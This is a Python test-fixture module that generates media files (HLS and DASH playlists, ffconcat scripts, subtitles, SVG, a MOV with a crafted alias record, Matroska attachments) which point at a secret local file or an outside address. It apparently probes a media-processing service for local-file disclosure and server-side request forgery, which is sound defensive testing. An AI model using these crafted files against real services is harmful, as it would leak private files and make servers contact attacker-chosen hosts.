"""Files that pose as clips or sounds and refer to others: another file of the machine, or an address."""

from __future__ import annotations

import io
import struct
from collections.abc import Callable
from pathlib import Path

import av
import numpy as np
from clips import make_clip
from PIL import Image

# name -> (path of the secret file, address of a server) -> content
Maker = Callable[[Path, str], bytes]


def _text(template: str) -> Maker:
    return lambda secret, url: template.format(secret=secret, name=secret.name, url=url).encode()


def _picture(kind: str) -> Maker:
    def make(secret: Path, url: str) -> bytes:
        file = io.BytesIO()
        Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(file, format=kind)
        return file.getvalue()

    return make


_PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{target}\n#EXT-X-ENDLIST\n"
_DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" '
    'profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp2t">'
    '<Representation id="1" bandwidth="1"><BaseURL>{url}/</BaseURL><SegmentList><SegmentURL media="{secret}"/>'
    "</SegmentList></Representation></AdaptationSet></Period></MPD>"
)

FILES: dict[str, Maker] = {
    "playlist of a file": _text(_PLAYLIST.replace("{target}", "{secret}")),
    "playlist of a file URL": _text(_PLAYLIST.replace("{target}", "file://{secret}")),
    "playlist of a neighbour": _text(_PLAYLIST.replace("{target}", "{name}")),
    "playlist of an address": _text(_PLAYLIST.replace("{target}", "{url}/a.ts")),
    "playlist with a key": _text('#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:9,\n{secret}\n'),
    "concat script": _text("ffconcat version 1.0\nfile '{secret}'\n"),
    "concat of an address": _text("ffconcat version 1.0\nfile '{url}/a.mp4'\n"),
    "dash": _text(_DASH),
    "smooth streaming": _text('<SmoothStreamingMedia><StreamIndex Url="{url}/a"/></SmoothStreamingMedia>'),
    "session description": _text("v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n"),
    "windows playlist": _text('[Reference]\nRef1={url}/a.asf\n<asx><entry><ref href="{url}/b"/></entry></asx>'),
    "vector picture": _text('<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/a.png"/></svg>'),
    "srt": _text("1\n00:00:00,000 --> 00:00:02,000\n<img src='{url}/a'>\n\n"),
    "webvtt": _text("WEBVTT\n\n00:00.000 --> 00:02.000\nhello\n"),
    "ass": _text("[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:02.00,Default,,0,0,0,,hello\n"),
    "metadata": _text(";FFMETADATA1\ntitle={secret}\n"),
    **{kind.lower(): _picture(kind) for kind in ("PNG", "JPEG", "GIF", "BMP", "WEBP", "TIFF")},
}


def film_elsewhere(path: Path, secret: Path) -> Path:
    """A MOV file whose track says that its pictures lie in another file."""
    make_clip(path, duration_s=0.5)
    where = str(secret).encode() + bytes(len(str(secret)) % 2)
    # An alias record of classic Mac OS, of which FFmpeg reads volume, name, levels, and tag 2: the absolute path.
    alias = bytes(10 + 1 + 27 + 12 + 1 + 63 + 16) + b"\xff" * 4 + bytes(16)
    alias += struct.pack(">HH", 2, len(where)) + where + struct.pack(">HH", 0xFFFF, 0)
    box = struct.pack(">I4sI", len(alias) + 12, b"alis", 0) + alias
    data = path.read_bytes()
    at = data.find(b"url \0\0\0\x01") - 4
    assert at > data.find(b"mdat"), "the index must lie behind the pictures, or they would move"
    grown = bytearray(data[:at] + box + data[at + 12 :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        start = grown.rfind(name, 0, at) - 4
        (size,) = struct.unpack_from(">I", grown, start)
        struct.pack_into(">I", grown, start, size + len(box) - 12)
    path.write_bytes(grown)
    return path


def film_with_attachments(path: Path, names: tuple[str, ...]) -> Path:
    """A Matroska film with files inside that have such names."""
    with av.open(str(path), "w") as container:
        video = container.add_stream("libx264", rate=10)
        video.width, video.height, video.pix_fmt = 32, 32, "yuv420p"
        for name in names:
            container.add_attachment(name, "application/x-truetype-font", b"evil")
        for index in range(5):
            frame = av.VideoFrame.from_ndarray(np.full((32, 32, 3), 40 * index, np.uint8), format="rgb24")
            frame.pts = index
            container.mux(video.encode(frame))
        container.mux(video.encode(None))
    return path
